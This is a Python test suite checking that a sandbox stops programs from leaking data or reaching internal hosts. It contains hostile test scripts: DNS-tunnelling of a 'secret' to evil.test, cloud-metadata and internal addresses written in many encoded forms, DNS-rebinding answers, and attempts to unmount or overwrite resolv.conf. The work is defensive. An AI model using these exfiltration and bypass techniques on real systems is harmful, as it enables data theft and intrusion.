#!/usr/bin/env python3
"""What a cell learns and gives away by names where a pattern, a range or any host is granted: hostile programs, each beside a twin that shows that
the server which sees nothing would have seen it.

usage: names.py AMBIT    (as network.py, whose network it is)
"""

import json
import os
import shutil
import socket
import socketserver
import subprocess
import threading

import network
from harness import need, told, write, main
from network import INNER, PUBLIC, PUBLIC6, Network, both_users


class Asked(threading.Thread):
    """The name server of the host: keeps what it was asked, and answers with what `zone` gives for a name and a type, a list of addresses."""

    def __init__(self, zone):
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((PUBLIC, 53))
        self.zone, self.packets, self.names = zone, 0, []
        self.start()

    def run(self):
        while True:
            query, whom = self.sock.recvfrom(65536)
            self.packets += 1
            at, labels = 12, []
            while at < len(query) and query[at]:
                labels.append(query[at + 1:at + 1 + query[at]])
                at += 1 + query[at]
            if len(query) < at + 5:
                continue
            name, kind = b".".join(labels).decode("latin-1").lower(), query[at + 2]
            self.names.append(name)
            found = [socket.inet_pton(socket.AF_INET6 if ":" in a else socket.AF_INET, a) for a in self.zone(name)]
            found = [a for a in found if len(a) == {1: 4, 28: 16}.get(kind)]
            self.sock.sendto(query[:2] + b"\x81\x80\0\1" + bytes([0, len(found)]) + b"\0\0\0\0" + query[12:at + 5] +
                             b"".join(b"\xc0\x0c\0" + bytes([kind]) + b"\0\1\0\0\0\0\0" + bytes([len(a)]) + a for a in found), whom)

    def heard(self, word):
        """Packets are heard in their order: what came before a question of one's own was heard."""
        own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        own.settimeout(10)
        own.sendto(b"\0\0\1\0\0\1\0\0\0\0\0\0\3end\0\0\1\0\1", (PUBLIC, 53))
        own.recv(512)
        return [n for n in self.names if word in n]


class Who(socketserver.BaseRequestHandler):
    """Says to which address one came."""

    def handle(self):
        self.request.sendall(self.request.getsockname()[0].removeprefix("::ffff:").encode() + b"\n")


def begin(net, zone=lambda name: []):
    """A network of which the names that are in no file come from `zone`."""
    if not hasattr(net, "dns"):
        write(f"{net.top}/resolv.conf", f"nameserver {PUBLIC}\noptions timeout:1 attempts:1\n")
        subprocess.run(["mount", "--bind", f"{net.top}/resolv.conf", os.path.realpath("/etc/resolv.conf")], check=True)
        with net.world():
            net.dns = Asked(zone)
        net.serve(Who, 80)
        net.serve(Who, 8080)
    return net.dns


def python(net, uid, script, *grants, more=(), arguments=()):
    words = (word for grant in grants for word in ("--connect", grant))
    return net.run(uid, *more, *words, "--", "python3", "-c", script, *arguments)


def lines(who, result):
    assert result.returncode == 0, f"{who}: {told(result)}"
    return [json.loads(line) for line in result.stdout.splitlines()]


# Says what is asked, in whatever form, to whoever may hear it; what comes back, or why nothing does.
TELL = r"""
import json, socket, struct, sys
def question(labels, kind):
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack("!HH", kind, 1)
def say(address, port, packet, kind=socket.SOCK_DGRAM, protocol=0):
    try:
        s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind, protocol)
        s.settimeout(2)
        s.connect((address, port))
        s.send(packet)
        return s.recv(4096)
    except OSError as e:
        return str(e)
secret = [b"secret" + b"x" * 57] * 3 + [b"evil", b"test"]
server = sys.argv[1]
"""

TUNNEL = TELL + r"""
for kind in (1, 28, 16, 10, 33, 15, 255, 65):
    say(server, 53, question(secret, kind))
for i in range(int(sys.argv[2])):
    say(server, 53, question([b"secret%d" % i, b"evil", b"test"], 1))
for address in sys.argv[3:]:
    say(address, 53, question(secret, 16))
    say(address, 443, b"\xc3\0\0\0\1secret")
for protocol in (socket.IPPROTO_ICMP, socket.IPPROTO_ICMPV6):
    say(sys.argv[3] if protocol == socket.IPPROTO_ICMP else sys.argv[4], 0, b"\x08\0\0\0secret", socket.SOCK_DGRAM, protocol)
for packet in (b"\0\x30" + question(secret, 16), b"GET /secret HTTP/1.1\r\n\r\n"):
    say(sys.argv[3], 53, packet, socket.SOCK_STREAM)
print(json.dumps(open("/proc/net/dev").read().count(":")))
"""


@both_users
def no_question_leaves(net, who, uid):
    """By whatever type, length, number, server and protocol; a name that is connected to does, since that is granted."""
    dns = begin(net)
    before = dns.packets
    elsewhere = (PUBLIC, PUBLIC6, "8.8.8.8", "127.0.0.53")
    for grant, many in (("*.open.test:80", "9"), ("*:80", "2000")):
        assert lines(who, python(net, uid, TUNNEL, grant, arguments=("192.0.2.53", many, *elsewhere))) == [1], who
    assert dns.heard("secret") == [] and dns.packets == before + 1, f"{who}: {dns.names[-4:]}"
    net.place.run("python3", "-c", TUNNEL, PUBLIC, "99", PUBLIC, PUBLIC6, cwd="/")
    assert len(dns.heard("secret")) > 99, f"{who}: the twin was not heard"
    dns.names.clear()
    python(net, uid, "import socket; socket.create_connection(('told.evil.test', 80), 5).recv(1)", "*:80")
    assert "told.evil.test" in dns.heard("told"), f"{who}: what is connected to is asked for: {dns.names}"
    dns.names.clear()


ANSWERS = TELL + r"""
def answer(labels, kind):
    a = say(server, 53, question(labels, kind))
    return a if isinstance(a, str) else [a[3] & 15, a[7], socket.inet_ntoa(a[-4:]) if a[7] else ""]
for text, kind in json.loads(sys.argv[2]):
    print(json.dumps(answer([l.encode("latin-1") for l in text.split("/")], kind)))
"""


@both_users
def names_are_what_they_are(net, who, uid):
    """Code of the answer, how many addresses: of the responder, asked without a C library."""
    begin(net)
    there, none, no_such, refused, form = [0, 1], [0, 0], [3, 0], [5, 0], [1, 0]
    rows = [("a/open/test", 1, there), ("A/oPeN/tEsT", 1, there), ("a/open/test", 28, none), ("a/open/test", 65, none), ("a/open/test", 16, refused),
            ("a/open/test", 33, refused), ("xn--bcher-kva/open/test", 1, there), ("b\u00fccher/open/test", 1, no_such), ("exact/test", 1, there), ("EXACT/test", 28, none),
            ("open/test", 1, no_such), ("a/b/open/test", 1, no_such), ("aopen/test", 1, no_such), ("a/open/test/evil/test", 1, no_such), ("open/test/a", 1, no_such),
            ("a\0/open/test", 1, no_such), ("a\0.evil/open/test", 1, no_such), ("a.b/open/test", 1, no_such), ("*/open/test", 1, no_such), ("-/open/test", 1, no_such),
            ("x" * 63 + "/open/test", 1, there), ("localhost", 1, there), ("a/localhost", 1, there), ("open/test", 12, refused)]
    result = python(net, uid, ANSWERS, "*.open.test:80", "exact.test:80", arguments=("192.0.2.53", json.dumps([row[:2] for row in rows])))
    said = lines(who, result)
    for (name, kind, wanted), got in zip(rows, said, strict=True):
        assert got[:2] == wanted, f"{who}, {name} of type {kind}: {got}"
    assert said[0][2] == said[1][2] != said[6][2] and said[6][2].startswith("198.19."), f"{who}: {said}"
    assert [got[2] for (name, _, _), got in zip(rows, said, strict=True) if name.endswith("localhost")] == ["127.0.0.1"] * 2, said
    # and any host: everything but the cell
    said = lines(who, python(net, uid, ANSWERS, "*:80", arguments=("192.0.2.53", json.dumps([["evil/test", 1], ["localhost", 1], ["com", 1], ["1/2/3/4", 1]]))))
    assert [got[:2] for got in said] == [there, there, there, no_such], f"{who}: {said}"


CONNECT = r"""
import json, socket, sys
for host, port in json.loads(sys.argv[1]):
    try:
        s = socket.create_connection((host, port), 5)
        print(json.dumps(s.recv(99).decode().strip() or "end"))
    except (OSError, UnicodeError) as e:
        print(json.dumps(type(e).__name__))
"""
RESET, REFUSED, NO_NAME, NO_ROUTE = "ConnectionResetError", "ConnectionRefusedError", "gaierror", "OSError"


def connects(net, who, uid, rows, *grants, more=()):
    result = python(net, uid, CONNECT, *grants, more=more, arguments=(json.dumps([row[0] for row in rows]),))
    for (to, wanted), got in zip(rows, lines(who, result), strict=True):
        assert got == wanted, f"{who}, {to} by {grants}: {got}, not {wanted}"
    return result


METADATA = ("169.254.169.254", "fd00:ec2::254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "0xa9fea9fe", "169.254.43518", "2852039166")


@both_users
def no_address_is_another(net, who, uid):
    """However it is written; what is public is reached in each of these ways."""
    begin(net)
    inside = (INNER, "::ffff:" + INNER, "::ffff:a01:203", "0x0a010203", "012.1.2.3", "10.66051", "fc00::1", "100.64.0.1", "0.0.0.0", "::", "192.0.2.1",
              "198.18.0.1", "198.19.0.1", "198.19.200.1", "192.168.1.1", "172.16.0.1", "2002:a01:203::1", "64:ff9b::a01:203", "::10.1.2.3")
    number = int.from_bytes(socket.inet_aton(PUBLIC), "big")
    connects(net, who, uid, [([a, 80], RESET) for a in (*inside, *METADATA)] + [(["127.0.0.1", 80], RESET), (["::1", 80], RESET), ([INNER, 81], REFUSED)] +
             [([a, 80], PUBLIC) for a in (PUBLIC, "::ffff:" + PUBLIC, hex(number), str(number))] + [([PUBLIC6, 80], PUBLIC6)], "*:80")
    # a range is what it says
    connects(net, who, uid, [([INNER, 80], INNER), (["::ffff:" + INNER, 80], INNER), (["0x0a010203", 80], INNER), (["10.2.2.3", 80], NO_ROUTE), ([PUBLIC, 80], NO_ROUTE),
                             (["169.254.169.254", 80], NO_ROUTE)], "10.1.0.0/16:80")
    connects(net, who, uid, [([a, 80], "169.254.169.254") for a in ("169.254.169.254", "::ffff:169.254.169.254")] + [([INNER, 80], RESET), ([PUBLIC, 80], PUBLIC)],
             "169.254.0.0/16:80", "*:80")


@both_users
def a_name_leads_to_what_was_checked(net, who, uid):
    """The server answers now so, now so, and nothing is to be kept; what is inside is never reached, however it is written."""
    asked = {}

    def zone(name):
        asked[name] = asked.get(name, 0) + 1
        if name.startswith("mixed"):
            return [INNER, "169.254.169.254", PUBLIC, "::1"]
        if name.startswith("mapped"):
            return ["::ffff:" + INNER, "::ffff:169.254.169.254"]
        if name.startswith("flip"):
            return [PUBLIC] if asked[name] % 2 else [INNER]
        return {"good.open.test": [PUBLIC], "six.open.test": [PUBLIC6], "inner.open.test": [INNER], "loop.open.test": ["127.0.0.1", "::1"],
                "meta.open.test": ["169.254.169.254", "fd00:ec2::254"]}.get(name, [])
    begin(net, zone)
    once, flips = [f"{n}.open.test" for n in ("good", "six", "inner", "loop", "meta", "mapped1", "mixed1", "mixed2", "nobody")], [f"flip{i}.open.test" for i in range(20)] * 3
    for grant in ("*.open.test:80", "*:80"):
        said = lines(who, python(net, uid, CONNECT, grant, arguments=(json.dumps([[n, 80] for n in once + flips]),)))
        assert said[:len(once)] == [PUBLIC, PUBLIC6, RESET, RESET, RESET, RESET, PUBLIC, PUBLIC, RESET], f"{who}, {grant}: {said}"
        assert len(said) == len(once + flips) and set(said[len(once):]) <= {PUBLIC, RESET}, f"{who}, {grant}: {said}"


OWN = r"""
import json, socket, threading
def server(address, port):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    s.bind((address, port))
    s.listen()
    threading.Thread(target=lambda: [s.accept()[0].sendall(b"own") for _ in range(3)], daemon=True).start()
for address in ("127.0.0.1", "::1"):
    server(address, 8081)
for host in ("localhost", "127.0.0.1", "::1", "a.localhost"):
    print(json.dumps(socket.create_connection((host, 8081), 5).recv(9).decode()))
for port in 8080, 8082, 8083, 8084:
    for host in ("127.0.0.1", "::1"):
        try:
            print(json.dumps(socket.create_connection((host, port), 5).recv(9).decode().strip()))
        except OSError as e:
            print(json.dumps(type(e).__name__))
"""


@both_users
def loopback_is_the_cells_own(net, who, uid):
    """Its servers are reached, and the host's, at a port that is granted for any host, are not; by a grant of loopback addresses they are."""
    begin(net)
    if net.is_new:
        for port in (8082, 8083, 8084):
            net.serve(Who, port)
    said = lines(who, python(net, uid, OWN, "*:8080", "0.0.0.0/0:8082", "[::/0]:8082", "127.0.0.0/8:8083", "127.0.0.1:8084"))
    assert said == ["own"] * 4 + [RESET] * 4 + ["127.0.0.1", REFUSED] * 2, f"{who}: {said}"


@both_users
def it_is_told_by_name(net, who, uid):
    """In the record stand the names that were connected, and those that were asked for in vain, and no address that stands for one."""
    begin(net, lambda name: [PUBLIC] if name.endswith(".open.test") else [])
    record = f"{net.home(uid)}/record.json"
    rows = [(["a.open.test", 80], PUBLIC), (["b.open.test", 80], PUBLIC), (["b.open.test", 80], PUBLIC), (["exact.open.test", 80], PUBLIC), (["evil.test", 80], NO_NAME),
            (["a.open.test", 81], REFUSED), (["::ffff:" + INNER, 80], NO_ROUTE)]
    connects(net, who, uid, rows, "*.open.test:80", "exact.open.test:80", more=("--record", record))
    with open(record, encoding="utf-8") as file:
        effects = [e for e in json.load(file)["effects"] if e["kind"] == "connect"]
    proved = {(e["address"], e["count"], e["verdict"]) for e in effects if e["source"] == "proved"}
    assert proved == {("inet a.open.test:80", 1, "allowed"), ("inet b.open.test:80", 2, "allowed"), ("inet exact.open.test:80", 1, "allowed")}, f"{who}: {effects}"
    others = {(e["address"], e["verdict"]) for e in effects if e["source"] != "proved"}
    assert others == {("name evil.test", "denied"), ("inet a.open.test:81", "denied"), (f"inet {INNER}:80", "denied")}, f"{who}: {effects}"


GO = """package main
import ("fmt"; "io"; "net"; "os")
func main() {
	for _, host := range os.Args[1:] {
		c, err := net.Dial("tcp", host+":80")
		if err != nil { fmt.Println("none"); continue }
		b, _ := io.ReadAll(c)
		fmt.Print(string(b))
	}
}
"""
MUSL = r"""
#include <netdb.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int n, char **v)
{
	for (int i = 1; i < n; i++) {
		const struct addrinfo hints = { .ai_socktype = SOCK_STREAM };
		struct addrinfo *a;
		char said[99];
		ssize_t got = -1;
		if (getaddrinfo(v[i], "80", &hints, &a) == 0) {
			const int s = socket(a->ai_family, a->ai_socktype, 0);
			if (connect(s, a->ai_addr, a->ai_addrlen) == 0)
				got = read(s, said, sizeof said - 1);
		}
		printf("%.*s", got > 0 ? (int)got : 5, got > 0 ? said : "none\n");
	}
	return 0;
}
"""


@both_users
def every_resolver_finds_them(net, who, uid):
    """Of the C library, musl, Go, Node; a name of a pattern, an exact one beside it, and one that is neither."""
    need("go", "musl-gcc", "node", "getent")
    begin(net, lambda name: [PUBLIC] if name.endswith(".open.test") else [])
    work = f"{net.top}/programs"
    if net.is_new:
        os.mkdir(work)
        write(f"{work}/main.go", GO)
        write(f"{work}/main.c", MUSL)
        # Debian's packages of its library as they are, which saves their compilation; its own resolver is asked for
        environment = {**os.environ, "GOCACHE": f"{net.top}/cache", "GO111MODULE": "off", "GOFLAGS": "", "HOME": net.top}
        subprocess.run(["go", "build", "-ldflags", "-s -w -linkmode external -extldflags -static", "-o", f"{work}/go", f"{work}/main.go"], check=True, env=environment)
        subprocess.run(["musl-gcc", "-static", "-o", f"{work}/musl", f"{work}/main.c"], check=True)
    script = f"""
names="a.open.test exact.open.test evil.test"
GODEBUG=netdns=go {work}/go $names; {work}/musl $names
for n in $names; do getent ahostsv4 $n >/dev/null && echo found || echo none; done
node -e 'const dns = require("dns"); (async () => {{ for (const n of process.argv.slice(1)) console.log(await dns.promises.resolve4(n).then(a => a.length, e => e.code)) }})()' $names
"""
    result = net.run(uid, "--read", work, "--run", work, "--run", "node", "--connect", "*.open.test:80", "--connect", "exact.open.test:80", "--", "sh", "-c", script)
    assert result.stdout.split() == [PUBLIC, PUBLIC, "none"] * 2 + ["found", "found", "none"] + ["1", "1", "ENOTFOUND"], f"{who}: {told(result)}"


@both_users
def names_lead_there_beside_the_hosts_own_account(net, who, uid):
    """Where a grant shows the host's own file of names, and where all of the host is shown. The twin: without a grant of a name, that file is to be seen."""
    begin(net)
    tree, own = f"{net.home(uid)}/tree", "import sys\nsys.stdout.write(open('/etc/hosts').read())"
    os.makedirs(tree)
    os.chown(tree, uid, uid)
    script = "import socket\nprint(socket.create_connection(('open.test', 80), 9).recv(99).decode().strip())"
    for shown in ((), ("--read", "/etc/hosts"), *((("--read", "/etc"), ("--base", "minimal", "--read", "/usr", "--read", "/etc")) if uid == 0 else ())):  # hiding names there wants an overlay
        result = net.run(uid, *shown, "--connect", "open.test:80", "--", "python3", "-c", script)
        assert result.stdout == f"{PUBLIC}\n", f"{who}, {shown}: {told(result)}"
    seen = net.run(uid, "--read", "/etc/hosts", "--", "python3", "-c", own).stdout
    assert "localhost" in seen and "198.18." not in seen, f"{who}: {seen}"
    words = ("learn", "--no-ledger", "--workspace", tree, "--connect")
    result = net.ambit(uid, *words, "open.test:80", "--output", f"{tree}/policy", "--", "python3", "-c", script)
    assert result.stdout == f"{PUBLIC}\n", f"{who}: {told(result)}"
    with open(f"{tree}/policy", encoding="utf-8") as file:
        assert "  - connect: open.test:80\n" in file.read(), who


# Whether a.open.test is found, and what all that would change the file in whose place the cell's stands came to.
MEDDLE = r"""
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def system(name, *arguments):
    if getattr(libc, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)
def said(what):
    try:
        return what() or "done"
    except OSError as e:
        return "no"
p, other = "/etc/resolv.conf", "/etc/other"
tries = (lambda: print(said(lambda: socket.create_connection(("a.open.test", 80), 9).recv(99).decode().strip())),
         lambda: open(p, "a").write("x\n") and None, lambda: os.truncate(p, 0), lambda: os.chmod(p, 0o600), lambda: os.utime(p), lambda: system("umount2", p.encode(), 2),
         lambda: system("umount2", p.encode(), 10), lambda: system("mount", b"/dev/null", p.encode(), b"", 4096, b""), lambda: os.rename(p, other), lambda: os.unlink(p), lambda: os.symlink("/x", other),
         lambda: os.rename("/etc", "/etc.old"))
tries[0]()
print(*map(said, tries[1:]))
"""


def forms_of_resolv_conf(net, tree):
    """Each as a name and who makes it; those which are a file, or lead to one, or nowhere."""
    text, path = f"nameserver {PUBLIC}\noptions timeout:1 attempts:1\n", f"{net.top}/etc/resolv.conf"
    for name in (f"{net.top}/real.conf", f"{net.top}/etc/real.conf", f"{tree}/real.conf"):
        write(name, text)
        os.chmod(name, 0o666)
    return {"file": lambda: write(path, text), "absolute": lambda: os.symlink(f"{net.top}/real.conf", path), "relative": lambda: os.symlink("./real.conf", path),
            "dangling": lambda: os.symlink("/run/nowhere/stub.conf", path), "loop": lambda: os.symlink("resolv.conf", path), "writable": lambda: os.symlink(f"{tree}/real.conf", path),
            "directory": lambda: os.mkdir(path), "missing": lambda: None}


def remove(path):
    if os.path.isdir(path) and not os.path.islink(path):
        os.rmdir(path)
    elif os.path.lexists(path):
        os.unlink(path)


def all_of(*roots):
    """What lies there, as it is."""
    found = {}
    for root in roots:
        for at, _, names in os.walk(root):
            for path in (at, *(f"{at}/{n}" for n in names)):
                s = os.lstat(path)
                text = os.readlink(path) if os.path.islink(path) else open(path, "rb").read() if os.path.isfile(path) else b""
                found[path] = (s.st_mode, s.st_uid, s.st_ino, s.st_mtime_ns, text)
    return found


@both_users
def whatever_the_hosts_file_is_nothing_is_done_to_it(net, who, uid):
    """A link is not followed, to where it may be written neither: the cell's file stands on the link itself. Nobody gets that away, and a file is there or not as on the host."""
    begin(net)
    tree, etc = f"{net.home(uid)}/forms", f"{net.top}/etc"
    os.makedirs(tree)
    shutil.rmtree(etc, ignore_errors=True)
    subprocess.run(["cp", "-a", "--one-file-system", "/etc", etc], check=True)
    shutil.copy(f"{net.top}/hosts", f"{etc}/hosts")
    forms = forms_of_resolv_conf(net, tree)
    subprocess.run(["chown", "-R", f"{uid}:{uid}", tree], check=True)
    subprocess.run(["mount", "--bind", etc, "/etc"], check=True)
    try:
        for form, make in forms.items():
            remove(f"{etc}/resolv.conf")
            make()
            before = all_of(etc, tree, f"{net.top}/real.conf")
            want = "no" if form in ("directory", "missing") else PUBLIC
            learn = ("learn", "--no-ledger", "--workspace", tree, "--output", f"{net.home(uid)}/policy-{form}")
            runs = [learn] + [("run", "--read", "/etc", *more) for more in ((), ("--direct",), ("--work", tree)) if uid == 0]
            for words in runs:
                result = net.ambit(uid, *words, "--connect", "*.open.test:80", "--", "python3", "-c", MEDDLE)
                assert result.stdout.split() == [want] + ["no"] * 11, f"{who}, {form}, {words}: {told(result)}"
                assert all_of(etc, tree, f"{net.top}/real.conf") == before, f"{who}, {form}, {words}"
    finally:
        subprocess.run(["umount", "/etc"], check=True)


@both_users
def what_the_event_may_write_is_its_own(net, who, uid):
    """Then the host's file is what it sees and writes, staged or not; nothing of the cell's is in it. The twin of the one above: it can be written."""
    if uid != 0:
        return  # nobody else may write there
    begin(net)
    etc, text = f"{net.top}/etc-written", f"nameserver {PUBLIC}\n"
    subprocess.run(["cp", "-a", "--one-file-system", "/etc", etc], check=True)
    shutil.copy(f"{net.top}/hosts", f"{etc}/hosts")
    subprocess.run(["mount", "--bind", etc, "/etc"], check=True)
    script = "import sys\nfor n in ('resolv.conf', 'hosts'):\n    p = '/etc/' + n; sys.stdout.write(open(p).read()); open(p, 'a').write('# mine\\n')"
    try:
        for flags in (("--direct",), (), ("--stage",)):
            write(f"{etc}/resolv.conf", text)
            shutil.copy(f"{net.top}/hosts", f"{etc}/hosts")
            result = net.run(0, "--write", "/etc", *flags, "--connect", "*.open.test:80", "--connect", "open.test:80", "--", "python3", "-c", script)
            with open(f"{net.top}/hosts", encoding="utf-8") as file:
                hosts = file.read()
            assert result.returncode == 0 and result.stdout == text + hosts, f"{who}, {flags}: {told(result)}"
            more = "" if flags == ("--stage",) else "# mine\n"
            for name, was in (("resolv.conf", text), ("hosts", hosts)):
                with open(f"{etc}/{name}", encoding="utf-8") as file:
                    assert file.read() == was + more, f"{who}, {flags}, {name}"
    finally:
        subprocess.run(["umount", "/etc"], check=True)


SCENARIOS = [names_lead_there_beside_the_hosts_own_account, whatever_the_hosts_file_is_nothing_is_done_to_it, what_the_event_may_write_is_its_own, no_question_leaves, names_are_what_they_are, no_address_is_another, a_name_leads_to_what_was_checked, loopback_is_the_cells_own, it_is_told_by_name,
             every_resolver_finds_them]

if __name__ == "__main__":
    main(SCENARIOS)
